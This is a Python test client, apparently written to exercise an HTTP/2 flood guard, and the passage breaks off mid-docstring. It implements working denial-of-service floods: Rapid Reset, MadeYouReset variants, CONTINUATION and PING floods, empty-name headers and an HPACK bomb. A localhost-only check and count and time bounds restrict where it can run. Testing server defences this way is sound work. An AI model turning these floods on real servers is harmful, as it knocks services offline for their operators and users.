#!/usr/bin/python3
"""h2flood - HTTP/2 (and HTTP/1.1) flood client for testing h2guard's flood limits.

Library and command line.  Every attack speaks raw frames (hyperframe for the
frames, a small hand-written HPACK encoder for the requests so that invalid
fields and dynamic-table references are exactly what is asked for; hpack's
decoder reads the server's header blocks) over h2c (prior knowledge) or TLS
(ALPN h2), from a chosen source address of 127.0.0.0/8.

Library:

    from h2flood import FloodConn, ATTACKS, run_attack
    r = run_attack("ping", port, tls=False, source="127.0.0.9", count=100)
    r.end            # "reset" | "eof" | "timeout" (still open when we gave up)
    r.sent           # attack units sent (frames, pairs, requests: see ATTACKS)
    r.received       # Counter of frame types h2guard sent after the handshake
    r.seconds, r.local_port, r.responses, r.rst_codes, r.goaway, r.extra

    c = FloodConn(port, tls=True, source="127.0.0.9", settings={0x4: 0})
    c.send(c.headers_frames(c.new_stream(), c.request_block("/x")))
    c.pump(0.1); c.wait_end(3.0)

Command line (runs the attack again and again, reconnecting after each
teardown, until --duration elapses; prints one summary line):

    h2flood.py --port P [--tls] [--source 127.0.0.9] [--count N] \\
               [--duration S] [--conns K] [--batch B] [--pace S] ATTACK

Only 127.0.0.0/8 is accepted as the target and the source.  Every loop is
bounded by a count and by time.
"""

import argparse
import errno
import json
import select
import signal
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, GoAwayFrame,
                              HeadersFrame, PingFrame, PriorityFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
               5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
F_END_STREAM, F_ACK, F_END_HEADERS, F_PADDED, F_PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_ENABLE_PUSH = 0x1, 0x2
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x3, 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
CANCEL, PROTOCOL_ERROR = 0x8, 0x1
MAX_FRAME = 16384
TCP_CLOSE, TCP_CLOSE_WAIT = 7, 8

# Set by the command line on SIGTERM/SIGINT: every loop checks it.
stop_event = threading.Event()


def check_local(addr):
    """Refuses any address outside 127.0.0.0/8."""
    try:
        ok = socket.inet_aton(addr)[0] == 127
    except OSError:
        ok = False
    if not ok:
        raise ValueError("h2flood only talks to 127.0.0.0/8, not %r" % addr)


# ---- HPACK, by hand ----------------------------------------------------------

STATIC_FULL = {(":method", "GET"): 2, (":method", "POST"): 3, (":path", "/"): 4,
               (":scheme", "http"): 6, (":scheme", "https"): 7}
STATIC_NAME = {":authority": 1, ":method": 2, ":path": 4, ":scheme": 6, "accept": 19,
               "content-length": 28, "content-type": 31, "host": 38, "user-agent": 58}


def hpack_int(value, prefix_bits, first=0):
    """HPACK integer with an N-bit prefix; first holds the pattern bits."""
    maxv = (1 << prefix_bits) - 1
    if value < maxv:
        return bytes([first | value])
    out = bytearray([first | maxv])
    value -= maxv
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    """A string literal, no Huffman."""
    if isinstance(s, str):
        s = s.encode()
    return hpack_int(len(s), 7) + s


def hpack_field(name, value, indexing=False):
    """One field: a static index when (name, value) is in the static table,
    else a literal without indexing (or with incremental indexing)."""
    if not indexing and (name, value) in STATIC_FULL:
        return hpack_int(STATIC_FULL[(name, value)], 7, 0x80)
    bits, first = (6, 0x40) if indexing else (4, 0x00)
    if name in STATIC_NAME:
        return hpack_int(STATIC_NAME[name], bits, first) + hpack_str(value)
    return bytes([first]) + hpack_str(name) + hpack_str(value)


def hpack_block(fields):
    return b"".join(hpack_field(n, v) for n, v in fields)


# ---- frames ------------------------------------------------------------------

def f_headers(sid, block, end_stream=True, end_headers=True):
    flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
    return HeadersFrame(sid, data=block, flags=flags).serialize()


def f_continuation(sid, block, end_headers=True):
    return ContinuationFrame(sid, data=block, flags=["END_HEADERS"] if end_headers else []).serialize()


def f_data(sid, data=b"", end_stream=False):
    return DataFrame(sid, data=data, flags=["END_STREAM"] if end_stream else []).serialize()


def f_rst(sid, code=CANCEL):
    return RstStreamFrame(sid, error_code=code).serialize()


def f_window_update(sid, inc):
    return WindowUpdateFrame(sid, window_increment=inc).serialize()


def f_ping(opaque=b"h2flood!", ack=False):
    return PingFrame(0, opaque_data=opaque, flags=["ACK"] if ack else []).serialize()


def f_settings(settings=None, ack=False):
    return SettingsFrame(0, settings=settings or {}, flags=["ACK"] if ack else []).serialize()


def f_priority(sid, depends_on=0, weight=15):
    return PriorityFrame(sid, depends_on=depends_on, stream_weight=weight).serialize()


def split_block(sid, block, end_stream=True, max_frame=MAX_FRAME):
    """HEADERS + as many CONTINUATIONs as block needs at max_frame bytes each."""
    pieces = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = [f_headers(sid, pieces[0], end_stream, len(pieces) == 1)]
    for i, p in enumerate(pieces[1:], 2):
        out.append(f_continuation(sid, p, i == len(pieces)))
    return b"".join(out)


def classify(exc):
    """How an exception says the connection ended."""
    if isinstance(exc, socket.timeout):
        return "timeout"
    if isinstance(exc, (ssl.SSLEOFError, ssl.SSLZeroReturnError)):
        return "eof"
    if isinstance(exc, ConnectionResetError) or getattr(exc, "errno", None) == errno.ECONNRESET:
        return "reset"
    if getattr(exc, "errno", None) == errno.EPIPE:
        # EPIPE: the peer had closed with FIN, our later bytes drew its RST.
        return "eof"
    if isinstance(exc, ssl.SSLError):
        return "tls_error"
    return "error"


class ConnectionEnded(Exception):
    """The connection ended before the HTTP/2 (or TLS) handshake completed."""

    def __init__(self, end, what):
        Exception.__init__(self, "%s: %s" % (what, end))
        self.end = end


class FloodConn:
    """One HTTP/2 client connection with a frame reader.

    settings: client SETTINGS merged over {ENABLE_PUSH: 0, INITIAL_WINDOW_SIZE:
    16 MiB}; window_bump: connection WINDOW_UPDATE sent with the preface (0:
    none); auto_window: give back the window of received DATA (at most two
    WINDOW_UPDATEs per 32 KiB); rcvbuf: SO_RCVBUF set before connect.
    alpn "http/1.1" (or h2=False) makes a plain HTTP/1.1 connection: no
    preface, raw bytes only.
    """

    def __init__(self, port, tls=False, source="127.0.0.1", settings=None, host="127.0.0.1",
                 timeout=5.0, rcvbuf=None, window_bump=1 << 30, auto_window=True, h2=True,
                 keep_frames=20000):
        check_local(host)
        check_local(source)
        self.port, self.tls, self.source, self.host, self.h2 = port, tls, source, host, h2
        self.timeout = timeout
        self.end = None             # "reset" | "eof" | "timeout" | "tls_error" | "error"
        self.end_time = None
        self.in_handshake = h2      # frames are the handshake's until we send after it
        self._exchanged = False     # server SETTINGS and the ACK of ours seen
        self.handshake_received = Counter()
        self.received = Counter()   # frame type name -> count, after the handshake
        self.frames = []            # (type, flags, stream id, length), at most keep_frames
        self.keep_frames = keep_frames
        self.bytes_received = 0
        self.bytes_sent = 0
        self.rst_codes = Counter()
        self.goaway = None          # (last stream id, error code, debug data)
        self.statuses = Counter()   # :status of response heads
        self.responses = 0          # response heads (not trailers)
        self.open = set()           # streams we opened that the server has not closed
        self.closed_streams = 0     # of those, closed by END_STREAM or RST_STREAM
        self.server_settings = {}
        self.auto_window = auto_window
        self.unacked = Counter()    # stream id (0: connection) -> DATA bytes not given back
        self.next_sid = 1
        self.decode_errors = 0
        self._buf = bytearray()
        self._hblock = None         # (stream id, bytearray) of a header block in progress
        self._decoder = hpack.Decoder()
        self._decoder.max_header_list_size = 1 << 24
        self._got_settings = self._got_ack = False
        self._wlock = threading.Lock()
        self._feeding = False

        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.raw = raw
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.bind((source, 0))
        raw.settimeout(timeout)
        raw.connect((host, port))
        self.local_port = raw.getsockname()[1]
        self.sock = raw
        if tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"] if h2 else ["http/1.1"])
            try:
                # wrap_socket detaches raw: the SSL socket is the one to use.
                self.sock = self.raw = ctx.wrap_socket(raw, server_hostname="localhost")
            except (OSError, ssl.SSLError) as e:
                self._ended(self._classify(e))
                raw.close()
                raise ConnectionEnded(self.end, "TLS handshake")
            if h2 and self.sock.selected_alpn_protocol() != "h2":
                raise ConnectionEnded("error", "ALPN gave %r" % self.sock.selected_alpn_protocol())
        self.seconds_connect = 0.0
        if h2:
            self.handshake(settings, window_bump)

    # -- handshake -------------------------------------------------------------

    def handshake(self, settings, window_bump):
        s = {SETTINGS_ENABLE_PUSH: 0, SETTINGS_INITIAL_WINDOW_SIZE: 1 << 24}
        s.update(settings or {})
        data = PREFACE + f_settings(s)
        if window_bump:
            data += f_window_update(0, window_bump)
        if not self.send(data):
            raise ConnectionEnded(self.end, "HTTP/2 preface")
        deadline = time.time() + self.timeout
        while not self._exchanged and not self.end and time.time() < deadline:
            self.pump(deadline - time.time())
        if not self._exchanged:
            self.close()
            raise ConnectionEnded(self.end or "timeout", "HTTP/2 SETTINGS exchange")
        # The server's connection WINDOW_UPDATE may follow its SETTINGS ACK
        # in the same write: still the handshake's.
        self.pump(0)

    # -- sending -----------------------------------------------------------------

    def send(self, data):
        """Writes data (whole); False when the connection is (found) dead."""
        if self.end:
            return False
        if self._exchanged and not self._feeding:
            self.in_handshake = False
        try:
            with self._wlock:
                self.sock.sendall(data)
            self.bytes_sent += len(data)
            return True
        except (OSError, ssl.SSLError) as e:
            end = self._classify(e)
            # Prefer what the read side says (EOF before a reset, say).
            if not self._feeding:
                self.pump(0)
            self._ended(end)
            return False

    def new_stream(self):
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def request_fields(self, path, method="GET", authority="localhost", extra=()):
        return [(":method", method), (":scheme", "https" if self.tls else "http"),
                (":authority", authority), (":path", path), ("user-agent", "h2flood")] + list(extra)

    def request_block(self, path, method="GET", authority="localhost", extra=()):
        return hpack_block(self.request_fields(path, method, authority, extra))

    def request(self, path, method="GET", end_stream=True, extra=(), send=True):
        """A request on a new stream: returns (stream id, bytes), sent unless send=False."""
        sid = self.new_stream()
        data = split_block(sid, self.request_block(path, method, extra=extra), end_stream)
        self.open.add(sid)
        if send:
            self.send(data)
        return sid, data

    def headers_frames(self, sid, block, end_stream=True):
        self.open.add(sid)
        return split_block(sid, block, end_stream)

    # -- reading -----------------------------------------------------------------

    def _kernel_end(self):
        """How the kernel says the connection ended: a RST leaves SO_ERROR
        ECONNRESET (EPIPE when it answered our bytes after the peer's FIN)
        and state CLOSE; a FIN alone leaves CLOSE_WAIT.  The ssl module
        reports both as EOF, hence this."""
        try:
            err = self.raw.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        except OSError:
            err = 0
        st = self.tcp_state()
        if err == errno.ECONNRESET:
            return "reset"
        if err == errno.EPIPE or st == TCP_CLOSE_WAIT:
            return "eof"
        if st == TCP_CLOSE:
            return "reset"
        return "eof"

    def _classify(self, exc):
        how = classify(exc)
        if how in ("eof", "tls_error", "error") and not isinstance(exc, socket.timeout):
            k = self._kernel_end()
            if k == "reset" or how == "eof":
                return k
        return how

    def _ended(self, how):
        if self.end is None:
            self.end = how
            self.end_time = time.time()

    def _readable(self, timeout):
        if self.tls and self.sock.pending():
            return True
        try:
            r, _, _ = select.select([self.sock], [], [], max(0.0, timeout))
        except (OSError, ValueError):
            return True
        return bool(r)

    def _recv_once(self, timeout):
        """One read; returns the number of bytes (0: nothing, or the end)."""
        if self.end or not self._readable(timeout):
            return 0
        try:
            # Readable may be only a TLS record without application data
            # (session tickets): never block long on it.
            self.sock.settimeout(max(0.02, timeout))
            d = self.sock.recv(262144)
        except ssl.SSLWantReadError:
            return 0
        except socket.timeout:
            return 0
        except (OSError, ssl.SSLError) as e:
            self._ended(self._classify(e))
            return 0
        finally:
            try:
                self.sock.settimeout(self.timeout)
            except OSError:
                pass
        if not d:
            self._ended(self._kernel_end())
            return 0
        self.bytes_received += len(d)
        if self.h2:
            self._feed(d)
        return len(d)

    def pump(self, timeout=0.0, max_reads=1000):
        """Reads what the server sent: waits up to timeout for the first byte,
        then takes whatever else is there.  Returns the bytes read."""
        n = self._recv_once(timeout)
        total = n
        reads = 1
        while n and reads < max_reads:
            n = self._recv_once(0)
            total += n
            reads += 1
        return total

    def settle(self, seconds):
        """Reads for this long (or until the end)."""
        deadline = time.time() + seconds
        while not self.end and time.time() < deadline:
            self.pump(deadline - time.time())

    def wait_end(self, timeout):
        """Reads until the connection ends or timeout: its end or "timeout"."""
        deadline = time.time() + timeout
        while not self.end and time.time() < deadline and not stop_event.is_set():
            self.pump(min(0.2, max(0.0, deadline - time.time())))
        return self.end or "timeout"

    def tcp_state(self):
        """Kernel TCP state of the socket (TCP_INFO tcpi_state)."""
        try:
            return self.raw.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
        except OSError:
            return None

    def poll_end_unread(self, timeout, step=0.05):
        """Waits for the end WITHOUT reading the socket (slow read): a RST
        shows as SO_ERROR ECONNRESET / state CLOSE, a FIN as CLOSE_WAIT."""
        deadline = time.time() + timeout
        while not self.end and time.time() < deadline and not stop_event.is_set():
            err = self.raw.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            st = self.tcp_state()
            if err == errno.ECONNRESET or st == TCP_CLOSE:
                self._ended("reset")
            elif err == errno.EPIPE or st == TCP_CLOSE_WAIT:
                self._ended("eof")
            else:
                time.sleep(step)
        return self.end or "timeout"

    def _frame(self, ftype, flags, sid, body):
        name = FRAME_NAMES.get(ftype, "UNKNOWN_%d" % ftype)
        if len(self.frames) < self.keep_frames:
            self.frames.append((ftype, flags, sid, len(body)))
        if self.in_handshake:
            self.handshake_received[name] += 1
        else:
            self.received[name] += 1
        if ftype == 4:                                  # SETTINGS
            if flags & F_ACK:
                self._got_ack = True
            else:
                f = SettingsFrame(0)
                f.parse_body(memoryview(body))
                self.server_settings.update(f.settings)
                self._got_settings = True
                self.send(f_settings(ack=True))
            if self._got_ack and self._got_settings:
                self._exchanged = True
        elif ftype == 6 and not flags & F_ACK:          # PING from the server
            self.send(f_ping(bytes(body[:8]), ack=True))
        elif ftype == 3:                                # RST_STREAM
            code = struct.unpack("!I", body[:4])[0] if len(body) >= 4 else -1
            self.rst_codes[code] += 1
            if sid in self.open:
                self.open.discard(sid)
                self.closed_streams += 1
        elif ftype == 7:                                # GOAWAY
            f = GoAwayFrame(0)
            try:
                f.parse_body(memoryview(body))
                self.goaway = (f.last_stream_id, f.error_code, f.additional_data)
            except Exception:
                self.goaway = (-1, -1, bytes(body))
        elif ftype in (1, 9):                           # HEADERS, CONTINUATION
            if ftype == 1:
                f = HeadersFrame(sid)
                f.parse_flags(flags)
                f.parse_body(memoryview(body))
                self._hblock = (sid, bytearray(f.data), bool(flags & F_END_STREAM))
            elif self._hblock is not None:
                self._hblock[1].extend(body)
            if flags & F_END_HEADERS and self._hblock is not None:
                hsid, block, es = self._hblock
                self._hblock = None
                try:
                    fields = self._decoder.decode(bytes(block), raw=True)
                    st = [v for n, v in fields if n == b":status"]
                    if st:
                        self.responses += 1
                        self.statuses[int(st[0])] += 1
                except Exception:
                    self.decode_errors += 1
                if es:
                    self._stream_closed(hsid)
        elif ftype == 0:                                # DATA
            flen = len(body)                            # padding counts too
            if self.auto_window and flen:
                self.unacked[0] += flen
                self.unacked[sid] += flen
                out = b""
                if self.unacked[0] >= 32768:
                    out += f_window_update(0, self.unacked.pop(0))
                if self.unacked[sid] >= 32768 and not flags & F_END_STREAM:
                    out += f_window_update(sid, self.unacked.pop(sid))
                if out:
                    self.send(out)
            if flags & F_END_STREAM:
                self.unacked.pop(sid, None)
                self._stream_closed(sid)

    def _stream_closed(self, sid):
        if sid in self.open:
            self.open.discard(sid)
            self.closed_streams += 1

    def _feed(self, data):
        self._buf.extend(data)
        self._feeding = True
        try:
            self._parse()
        finally:
            self._feeding = False

    def _parse(self):
        pos = 0
        buf = self._buf
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            self._frame(ftype, flags, sid, bytes(buf[pos + 9:pos + 9 + length]))
            pos += 9 + length
        del buf[:pos]

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass
        try:
            self.raw.close()
        except OSError:
            pass


# ---- results -----------------------------------------------------------------

class Result:
    """What one attack run did and saw."""

    def __init__(self, attack, tls, source):
        self.attack, self.tls, self.source = attack, tls, source
        self.sent = 0               # attack units written whole (see ATTACKS)
        self.attempted = 0          # also counting a batch whose write failed
        self.frames_sent = 0        # HTTP/2 frames those units took
        self.received = Counter()   # frames h2guard sent after the handshake, by type
        self.end = None             # "reset" | "eof" | "timeout" | ... | "refused"
        self.seconds = 0.0          # the whole run, linger included
        self.start_time = time.time()
        self.end_time = None        # when the (first) connection was seen to end
        self.local_port = None
        self.responses = 0
        self.statuses = Counter()
        self.rst_codes = Counter()
        self.goaway = None
        self.bytes_received = 0
        self.extra = {}
        self.error = None
        self.conns = 0
        self.ports = []             # every local port used

    def take(self, c):
        """Copies a connection's observations."""
        self.received += c.received
        self.responses += c.responses
        self.statuses += c.statuses
        self.rst_codes += c.rst_codes
        self.goaway = self.goaway or c.goaway
        self.bytes_received += c.bytes_received
        if c.end_time and (self.end_time is None or c.end_time < self.end_time):
            self.end_time = c.end_time
        if self.local_port is None:
            self.local_port = c.local_port
        self.ports.append(c.local_port)

    def as_dict(self):
        return {"attack": self.attack, "tls": self.tls, "source": self.source, "sent": self.sent,
                "attempted": max(self.sent, self.attempted),
                "frames_sent": self.frames_sent, "received": dict(self.received), "end": self.end,
                "seconds": round(self.seconds, 3), "local_port": self.local_port,
                "responses": self.responses, "statuses": dict(self.statuses),
                "rst_codes": dict(self.rst_codes), "goaway": repr(self.goaway) if self.goaway else None,
                "bytes_received": self.bytes_received, "extra": self.extra, "error": self.error}

    def __repr__(self):
        return "<%s %s sent=%d%s end=%s %.2fs recv=%s%s>" % (
            self.attack, "tls" if self.tls else "h2c", self.sent,
            " (+%d in a failed write)" % (self.attempted - self.sent) if self.attempted > self.sent else "",
            self.end, self.seconds,
            dict(self.received), " extra=%s" % self.extra if self.extra else "")


def _deadline(max_seconds):
    return time.time() + max_seconds


def _flood(c, res, units, count, batch, pace, deadline, frames_per_unit=1):
    """Sends units(i, n) -> bytes in batches of `batch` units, reading what
    comes back after each (pace seconds of it), until count units, the
    connection's end, the deadline or stop_event."""
    i = 0
    while i < count and not c.end and time.time() < deadline and not stop_event.is_set():
        n = min(batch, count - i)
        res.attempted = i + n
        if not c.send(units(i, n)):
            break
        i += n
        res.sent = i
        res.frames_sent = i * frames_per_unit
        if pace > 0:
            c.settle(pace)
        else:
            c.pump(0)
    return i


def _finish(c, res, t0, linger):
    if not c.end:
        c.wait_end(linger)
    res.end = c.end or "timeout"
    res.seconds = time.time() - t0
    res.take(c)
    c.close()
    return res


def _connect(res, port, tls, source, **kw):
    """A FloodConn, or None with res.end set when the handshake failed."""
    try:
        c = FloodConn(port, tls=tls, source=source, **kw)
    except ConnectionEnded as e:
        res.end = e.end
        res.error = str(e)
        return None
    except ConnectionRefusedError as e:
        res.end = "refused"
        res.error = str(e)
        return None
    except OSError as e:
        # A reset may beat connect() itself (closed right after accept).
        res.end = classify(e)
        res.error = "connect: %s" % e
        return None
    res.conns += 1
    return c


# ---- attacks -------------------------------------------------------------------
# Common parameters: port, tls, source, count (attack units), batch (units per
# write), pace (seconds read after each write: lets a teardown be seen before
# the next write; 0: as fast as possible), linger (seconds to wait for the end
# once everything is sent), max_seconds (hard bound), host.

def rapid_reset(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
                max_seconds=60.0, host="127.0.0.1", path="/flood/rr", error_code=CANCEL):
    """Unit: HEADERS (GET, END_STREAM) + RST_STREAM(CANCEL, or error_code) on the same stream."""
    name = {CANCEL: "rapid_reset", 0: "rapid_reset_no_error"}.get(error_code, "rapid_reset_code%d" % error_code)
    res, t0 = Result(name, tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    block = c.request_block(path)

    def units(i, n):
        out = []
        for _ in range(n):
            sid = c.new_stream()
            out.append(f_headers(sid, block) + f_rst(sid, error_code))
        return b"".join(out)
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds), 2)
    return _finish(c, res, t0, linger)


MYR_VARIANTS = ("window_overflow", "content_length", "window_update", "data", "refused")


def made_you_reset(port, tls=False, source="127.0.0.1", count=200, batch=10, pace=0.0, linger=2.0,
                   max_seconds=60.0, host="127.0.0.1", variant="window_overflow", path="/flood/myr",
                   fill=None):
    """Unit: a request the client makes the server reset (MadeYouReset,
    CVE-2025-8671): RFC 9113 stream errors, each answered with RST_STREAM.
    variant
      "window_overflow": GET (END_STREAM) + WINDOW_UPDATE 2^31-1 on it (the
                         stream window overflows: FLOW_CONTROL_ERROR);
      "content_length":  POST "content-length: 1" + DATA of 2 bytes with
                         END_STREAM (malformed: PROTOCOL_ERROR);
      "window_update":   GET (END_STREAM) + WINDOW_UPDATE increment 0 on it;
      "data":            GET (END_STREAM) + DATA on the half-closed stream;
      "refused":         first `fill` POST streams left open (default: the
                         server's MAX_CONCURRENT_STREAMS), then each unit a
                         GET refused with REFUSED_STREAM.
    nghttp2 1.52 treats "window_update" and "data" as connection errors
    (GOAWAY), not stream errors."""
    if variant not in MYR_VARIANTS:
        raise ValueError("made_you_reset variant: one of %s" % (MYR_VARIANTS,))
    res, t0 = Result("made_you_reset" + ("" if variant == "window_overflow" else "_" + variant), tls,
                     source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    block = c.request_block(path)
    post = c.request_block(path, "POST", extra=[("content-length", "1")])
    if variant == "refused":
        n = fill if fill is not None else c.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, 100)
        if n > 1000:
            raise ValueError("made_you_reset refused: MAX_CONCURRENT_STREAMS %d is too many to fill" % n)
        c.send(b"".join(c.request("/echo", "POST", end_stream=False, send=False)[1] for _ in range(n)))
        c.settle(0.2)
        res.extra["filled"] = n

    def units(i, n):
        out = []
        for _ in range(n):
            sid = c.new_stream()
            c.open.add(sid)
            if variant == "window_overflow":
                out.append(f_headers(sid, block) + f_window_update(sid, 0x7FFFFFFF))
            elif variant == "content_length":
                out.append(f_headers(sid, post, False) + f_data(sid, b"xx", True))
            elif variant == "window_update":
                out.append(f_headers(sid, block) + f_window_update(sid, 0))
            elif variant == "data":
                out.append(f_headers(sid, block) + f_data(sid, b"x"))
            else:
                out.append(f_headers(sid, block))
        return b"".join(out)
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds), 1 if variant == "refused" else 2)
    return _finish(c, res, t0, linger)


def _simple(name, frame_fn):
    def attack(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
               max_seconds=60.0, host="127.0.0.1"):
        res, t0 = Result(name, tls, source), time.time()
        c = _connect(res, port, tls, source, host=host)
        if c is None:
            return res
        _flood(c, res, lambda i, n: b"".join(frame_fn(i + k) for k in range(n)), count, batch, pace,
               _deadline(max_seconds))
        return _finish(c, res, t0, linger)
    attack.__name__ = name
    return attack


def _ping_frame(i):
    return f_ping(struct.pack("!Q", i))


ping = _simple("ping", _ping_frame)
ping.__doc__ = "Unit: one PING (opaque data: its number); the server owes a PING ACK each."
_EMPTY_SETTINGS = f_settings()
settings = _simple("settings", lambda i: _EMPTY_SETTINGS)
settings.__doc__ = "Unit: one empty SETTINGS frame; the server owes a SETTINGS ACK each."
_WU0 = f_window_update(0, 1)
window_update = _simple("window_update", lambda i: _WU0)
window_update.__doc__ = ("Unit: WINDOW_UPDATE +1 on stream 0 (the window starts near 2^30 after"
                         " the handshake bump: far from 2^31-1).")


def priority(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
             max_seconds=60.0, host="127.0.0.1", variant="fresh"):
    """Unit: one valid PRIORITY frame (depends on 0, weight 16): variant
    "fresh" on a new idle odd stream id each time, "existing" on one open
    stream (a POST /echo left open)."""
    res, t0 = Result("priority" + ("" if variant == "fresh" else "_" + variant), tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    if variant == "existing":
        sid, _ = c.request("/echo", "POST", end_stream=False)

        def units(i, n):
            return f_priority(sid) * n
    else:
        def units(i, n):
            return b"".join(f_priority(c.new_stream()) for _ in range(n))
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds))
    return _finish(c, res, t0, linger)


def empty_data(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
               max_seconds=60.0, host="127.0.0.1"):
    """A POST /echo stream left open, then units: DATA of length 0 without END_STREAM."""
    res, t0 = Result("empty_data", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    sid, _ = c.request("/echo", "POST", end_stream=False)
    frame = f_data(sid, b"")
    _flood(c, res, lambda i, n: frame * n, count, batch, pace, _deadline(max_seconds))
    return _finish(c, res, t0, linger)


def empty_headers(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
                  max_seconds=60.0, host="127.0.0.1", path="/flood/eh"):
    """Unit: a GET as HEADERS with an empty block fragment (END_STREAM, no
    END_HEADERS) + one CONTINUATION with the whole block and END_HEADERS."""
    res, t0 = Result("empty_headers", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    block = c.request_block(path)

    def units(i, n):
        out = []
        for _ in range(n):
            sid = c.new_stream()
            c.open.add(sid)
            out.append(f_headers(sid, b"", True, False) + f_continuation(sid, block, True))
        return b"".join(out)
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds), 2)
    return _finish(c, res, t0, linger)


def zero_length_headers(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0,
                        linger=2.0, max_seconds=60.0, host="127.0.0.1", fields=3,
                        path="/flood/zlh"):
    """Unit: a GET carrying `fields` header fields with an empty name
    (literal without indexing, new name of length 0: 0x00 0x00 ...),
    CVE-2019-9516."""
    res, t0 = Result("zero_length_headers", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    block = c.request_block(path) + b"".join(b"\x00\x00" + hpack_str("v%d" % k) for k in range(fields))

    def units(i, n):
        out = []
        for _ in range(n):
            sid = c.new_stream()
            c.open.add(sid)
            out.append(f_headers(sid, block))
        return b"".join(out)
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds))
    res.extra["fields_per_request"] = fields
    return _finish(c, res, t0, linger)


def continuation(port, tls=False, source="127.0.0.1", count=1000, batch=10, pace=0.0, linger=2.0,
                 max_seconds=60.0, host="127.0.0.1", pad=100, path="/flood/cont"):
    """One GET HEADERS without END_HEADERS, then units: CONTINUATION frames
    (no END_HEADERS) each carrying a valid field "x-pad: aaa..." (pad bytes)."""
    res, t0 = Result("continuation", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    sid = c.new_stream()
    c.open.add(sid)
    if not c.send(f_headers(sid, c.request_block(path), True, False)):
        return _finish(c, res, t0, 0)
    frame = f_continuation(sid, hpack_field("x-pad", "a" * pad), False)
    _flood(c, res, lambda i, n: frame * n, count, batch, pace, _deadline(max_seconds))
    return _finish(c, res, t0, linger)


def header_bytes(port, tls=False, source="127.0.0.1", count=1, batch=1, pace=0.0, linger=2.0,
                 max_seconds=60.0, host="127.0.0.1", variant="large", size=70000, refs=50,
                 path="/flood/hb"):
    """Unit: one GET whose header block is too big.
    variant "large": fields of 4000 bytes up to `size` bytes on the wire,
    HEADERS + CONTINUATIONs of 16384 bytes;
    variant "bomb" (HPACK bomb): one literal with incremental indexing of
    ~4000 bytes, then `refs` 1-byte indexed references to it (index 62) in
    the same block: small on the wire, refs * 4000 bytes decoded."""
    res, t0 = Result("header_bytes" if variant == "large" else "hpack_bomb", tls, source), time.time()
    c = _connect(res, port, tls, source, host=host)
    if c is None:
        return res
    base = c.request_block(path)
    if variant == "bomb":
        table = c.server_settings.get(SETTINGS_HEADER_TABLE_SIZE, 4096)
        vlen = max(64, min(4000, table - 32 - 6 - 16))
        block = base + hpack_field("x-bomb", "b" * vlen, indexing=True) + bytes([0x80 | 62]) * refs
        res.extra.update(encoded=len(block), decoded_approx=(refs + 1) * (vlen + 6 + 32))
    else:
        k = 0
        block = base
        while len(block) < size:
            block += hpack_field("x-big-%d" % k, "c" * 4000)
            k += 1
        res.extra.update(encoded=len(block), fields=k + 5)

    def units(i, n):
        out = []
        for _ in range(n):
            sid = c.new_stream()
            c.open.add(sid)
            out.append(split_block(sid, block))
        return b"".join(out)
    _flood(c, res, units, count, batch, pace, _deadline(max_seconds),
           (len(block) + MAX_FRAME - 1) // MAX_FRAME)
    return _finish(c, res, t0, linger)


def header_fields(port, tls=False, source="127.0.0.1", count=1, batch=1, pace=0.0, linger=2.0,
                  max_seconds=60.0, host="127.0.0.1", fields=1500, path="/flood/hf"):
    """Unit: one GET with `fields` tiny fields "x:" (4 bytes each on the
